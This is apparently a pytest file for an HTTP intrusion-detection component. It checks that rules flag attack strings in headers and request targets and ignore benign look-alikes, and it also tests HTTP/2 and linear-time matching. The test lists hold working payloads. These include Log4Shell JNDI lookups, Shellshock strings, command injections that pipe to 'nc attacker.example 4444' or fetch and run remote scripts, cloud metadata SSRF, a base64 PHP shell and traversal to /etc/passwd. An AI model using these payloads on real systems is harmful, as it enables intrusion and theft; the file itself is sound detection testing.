"""Today's attacks, in the target and in the headers: JNDI lookups, Shellshock, command injection, metadata SSRF,
stream wrappers and doubled traversal; and the look-alikes that must stay quiet.

Headers are checked by the core while it parses (their values are never kept): bytes in, the verdict out on
the exchange, with the built-in rule book's header patterns.  Targets are checked by the rule set,
percent-decoded as before.
"""

from __future__ import annotations

import pytest
from hpack import Encoder
from hyperframe.frame import HeadersFrame, SettingsFrame

from eyes_devine.core.http.framing import HttpLimits
from eyes_devine.core.http2 import PREFACE
from eyes_devine.enrich.rule_data import header_rules, rule_book
from eyes_devine.enrich.rules import RuleSet
from tests.enrich.test_rules import exchange
from tests.support.conn import Conn as PlainConn
from tests.support.conn import response

LIMITS = HttpLimits(header_rules=header_rules(rule_book()))
"""The built-in book's header signatures, as `read` and `run` hand them to the core."""


def Conn() -> PlainConn:  # noqa: N802 - stands in for the class, with the header rules
    return PlainConn(limits=LIMITS)


def with_header(line: bytes, target: bytes = b"/") -> tuple[str, ...]:
    """The alerts the core gives a request carrying header ``line``, sent whole, or one byte at a time."""
    head = b"GET " + target + b" HTTP/1.1\r\nHost: shop.example\r\n" + line + b"\r\nAccept: */*\r\n\r\n"
    whole = Conn().client(head).server(response()).close()
    parts = Conn()
    for index in range(len(head)):
        parts.client(head[index:index + 1])
    [split] = parts.server(response()).close()
    [exchange_] = whole
    assert split.alerts == exchange_.alerts, "a head arriving in pieces is judged as one arriving whole"
    name, value = line.split(b":", 1)
    if name.lower() not in (b"host", b"user-agent"):  # kept (redacted); every other value is judged, not kept
        assert value.strip().decode("latin-1") not in repr(exchange_), "header values are not kept"
    return exchange_.alerts


def target_alerts(target: str) -> tuple[str, ...]:
    return RuleSet().match(exchange(target))


HEADER_ATTACKS = [
    (b"User-Agent: ${jndi:ldap://attacker.example/a}", "jndi-lookup"),
    (b"X-Api-Version: ${${lower:j}${lower:n}${lower:d}i:ldap://x.example/a}", "jndi-lookup"),
    (b"Referer: ${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", "jndi-lookup"),
    (b"X-Forwarded-For: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}", "jndi-lookup"),
    (b"Cookie: session=${jn${date:'d'}i:dns://x.example/a}", "jndi-lookup"),
    (b"User-Agent: () { :; }; /bin/bash -c 'echo pwned'", "shellshock"),
    (b"Referer: () { _; } >_[$($())] { cat /etc/passwd; }", "shellshock"),
    (b"X-Forwarded-For: 127.0.0.1 | nc attacker.example 4444", "command-injection"),
    (b"X-Custom: $(whoami)", "command-injection"),
    (b"X-Custom: `id`", "command-injection"),
    (b"X-Custom: x && wget http://attacker.example/x.sh", "command-injection"),
    (b"Referer: http://[fd00:ec2::254]/latest/meta-data/ $(true)", "ssrf-metadata"),
]


@pytest.mark.parametrize(("line", "rule"), HEADER_ATTACKS)
def test_each_header_attack_is_found_while_parsing(line, rule):
    alerts = with_header(line)
    assert rule in alerts, alerts


ORDINARY_HEADERS = [
    b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
    b"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    b"Cookie: id=2; theme=dark; sh=1; cat=toys",
    b"Referer: https://shop.example/search?q=cat&sort=id&page=2",
    b"Referer: https://docs.example/log4j/${jndi}-lookups-explained",
    b"X-Template: Hello ${name}, your order ${order.id}",
    b"X-Note: use a || b in bash, or cat && dog",
    b"X-Note: fn() {} in JavaScript",
    b"If-None-Match: \"a9fe0c1e-169-254\"",
    b"Forwarded: for=192.0.2.60;proto=http;by=203.0.113.43",
]


@pytest.mark.parametrize("line", ORDINARY_HEADERS)
def test_ordinary_headers_raise_nothing(line):
    assert with_header(line) == ()


@pytest.mark.parametrize(("target", "rule"), [
    ("/?x=${jndi:ldap://attacker.example/a}", "jndi-lookup"),
    ("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", "jndi-lookup"),
    ("/?x=${${upper:j}ndi:rmi://x/a}", "jndi-lookup"),
    ("/ping?host=127.0.0.1;cat%20/etc/hostname", "command-injection"),
    ("/ping?host=127.0.0.1%0awhoami", "command-injection"),
    ("/run?cmd=$(curl%20http://x.example/s|sh)", "command-injection"),
    ("/fetch?url=http://169.254.169.254/latest/meta-data/iam/", "ssrf-metadata"),
    ("/fetch?url=http://2852039166/latest/meta-data/", "ssrf-metadata"),
    ("/fetch?url=http://0xa9fea9fe/", "ssrf-metadata"),
    ("/fetch?url=http://[::ffff:a9fe:a9fe]/", "ssrf-metadata"),
    ("/fetch?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", "ssrf-metadata"),
    ("/index.php?page=php://filter/convert.base64-encode/resource=index", "file-inclusion"),
    ("/index.php?page=PHP://input", "file-inclusion"),
    ("/view?file=file:///etc/hostname", "file-inclusion"),
    ("/index.php?page=expect://id", "file-inclusion"),
    ("/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "file-inclusion"),
    ("/view?file=....//....//....//etc/hostname", "file-inclusion"),
])
def test_each_target_attack_is_found_decoded(target, rule):
    assert rule in target_alerts(target), target_alerts(target)


@pytest.mark.parametrize("host", ["169.254.169.254", "169.254.169.254:80", "metadata.google.internal",
                                  "METADATA.GOOGLE.INTERNAL", "[fd00:ec2::254]", "[::ffff:a9fe:a9fe]", "2852039166"])
def test_a_host_header_naming_a_metadata_endpoint_is_ssrf(host):
    """The Host header is kept (redacted), so the rule set reads it from the record."""
    assert "ssrf-metadata" in RuleSet().match(exchange("/latest/meta-data/", host=host))


@pytest.mark.parametrize("host", ["shop.example", "10.0.0.2:8080", "169.254.1.7", "metadata.example", "[::1]:80"])
def test_ordinary_hosts_are_not_ssrf(host):
    assert RuleSet().match(exchange("/", host=host)) == ()


# Look-alikes: the words and characters the rules look for, in ordinary requests.
BENIGN_TARGETS = [
    "/blog/sql-injection-explained", "/blog/what-is-log4shell-and-jndi", "/docs/jndi-lookups",
    "/etc/config", "/etc", "/env/production", "/environment/settings", "/git/repo", "/learn/git/branches",
    "/search?q=cat+%26%26+dog", "/search?q=rock|paper", "/search?q=echo+chamber", "/man/bash", "/bin/sh-guide",
    "/users?sort=name;desc", "/items;jsessionid=REDACTED", "/api/items?id=2852039166", "/files/data:report",
    "/metadata/google", "/docs/the-php-file-wrapper", "/docs/${variable}", "/wiki/Cat_(Unix)",
    "/download?file=report.pdf", "/pages?page=php", "/img/a...b.png", "/api/v1/ping",
    "/status?check=id", "/cdn/169.254.0.1/status", "/redirect?to=https://shop.example/cart",
    "/oauth/callback?state=xyz&code=REDACTED", "/search?q=%24100+gifts", "/price?min=$5&max=$10",
]


@pytest.mark.parametrize("target", BENIGN_TARGETS)
def test_look_alike_targets_raise_nothing(target):
    assert target_alerts(target) == ()


# Held out: shapes written after the rules, from public payload lists, to check they generalise.
@pytest.mark.parametrize(("target", "rule"), [
    ("/?q=${jndi:ldaps://x.example:1389/a}", "jndi-lookup"),
    ("/?q=${${lower:${lower:j}}ndi:iiop://x/a}", "jndi-lookup"),
    ("/cgi-bin/status?x=;/usr/bin/id", "command-injection"),
    ("/x?y=`uname -a`", "command-injection"),
    ("/x?u=http://user@169.254.169.254/", "ssrf-metadata"),
    ("/x?u=http://0251.0376.0251.0376/", "ssrf-metadata"),
    ("/x?f=zip://uploads/a.zip%23shell.php", "file-inclusion"),
    ("/x?f=..././..././etc/hostname", "file-inclusion"),
])
def test_held_out_attacks_are_found_too(target, rule):
    assert rule in target_alerts(target), target_alerts(target)


def test_header_and_target_verdicts_merge_once_each_in_rule_order():
    from eyes_devine.config import Settings
    from eyes_devine.enrich.annotator import build_annotator

    [x] = Conn().client(b"GET /?a=${jndi:ldap://x/a} HTTP/1.1\r\nHost: h\r\nX-A: ${jndi:ldap://x/b}\r\n"
                        b"User-Agent: () { :; }; id\r\n\r\n").server(response()).close()
    assert x.alerts == ("jndi-lookup", "shellshock")
    annotate = build_annotator(Settings.build({}), lambda line: None)
    try:
        assert annotate(x).alerts == ("jndi-lookup", "shellshock")
    finally:
        annotate.close()


@pytest.mark.parametrize("target", [
    "/search?tags=dog|cat", "/api/users?fields=name;id", "/posts?tags=linux;bash", "/a?x=b|ls",
])
def test_lists_separated_by_a_bar_or_semicolon_are_not_commands(target):
    assert target_alerts(target) == ()


@pytest.mark.parametrize("line", [b"Cookie: tags=dog|cat; seen=1", b"Referer: https://shop.example/?tags=dog|cat"])
def test_lists_in_headers_are_not_commands(line):
    assert with_header(line) == ()


@pytest.mark.parametrize(("target", "rule"), [
    ("/fetch?url=169.254.169.254/latest/meta-data/", "ssrf-metadata"),
    ("/fetch?host=metadata.google.internal", "ssrf-metadata"),
    ("/proxy/2852039166/latest/", "ssrf-metadata"),
    ("/x?h=1.1.1.1|cat%20/etc/hostname", "command-injection"),
    ("/x?h=1;sleep%205", "command-injection"),
])
def test_metadata_hosts_without_a_scheme_and_commands_with_arguments_are_found(target, rule):
    assert rule in target_alerts(target), target_alerts(target)


def test_a_container_calling_the_metadata_service_itself_is_not_ssrf():
    """An SDK fetching its credentials: the server is the metadata address, and Host names it."""
    assert RuleSet().match(exchange("/latest/meta-data/iam/", host="169.254.169.254",
                                    server_ip="169.254.169.254")) == ()


@pytest.mark.parametrize("target", [
    "/?q=union" + "/**/" * 40 + "x",  # the lazy comment pattern could split these comments 2**40 ways
    "/?q=" + "${:-" * 4000,
    "/?q=" + "'" * 3000 + " or " * 500,
])
def test_hostile_targets_cost_linear_time(target):
    """Each finishes in milliseconds; the patterns before this test took hours (the suite's timeout fails it)."""
    RuleSet().match(exchange(target))


def test_a_hostile_head_costs_linear_time():
    with_header(b"X: " + b"${:-" * 15000)


def over_http2(line: bytes) -> tuple[str, ...]:
    """The alerts the core gives an HTTP/2 request carrying header ``line`` (h2c, prior knowledge)."""
    name, value = line.split(b":", 1)
    block = Encoder().encode([(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"),
                              (b":authority", b"shop.example"), (name.lower(), value.strip())])
    request = HeadersFrame(1, data=block, flags=("END_HEADERS", "END_STREAM")).serialize()
    response = HeadersFrame(1, data=Encoder().encode([(b":status", b"200")]),
                            flags=("END_HEADERS", "END_STREAM")).serialize()
    conn = Conn().client(PREFACE + SettingsFrame(0).serialize() + request).server(response)
    [exchange_] = conn.close()
    return exchange_.alerts


@pytest.mark.parametrize(("line", "rule"), HEADER_ATTACKS)
def test_each_header_attack_is_found_over_http2_too(line, rule):
    assert rule in over_http2(line)


@pytest.mark.parametrize("line", ORDINARY_HEADERS)
def test_ordinary_headers_raise_nothing_over_http2(line):
    assert over_http2(line) == ()
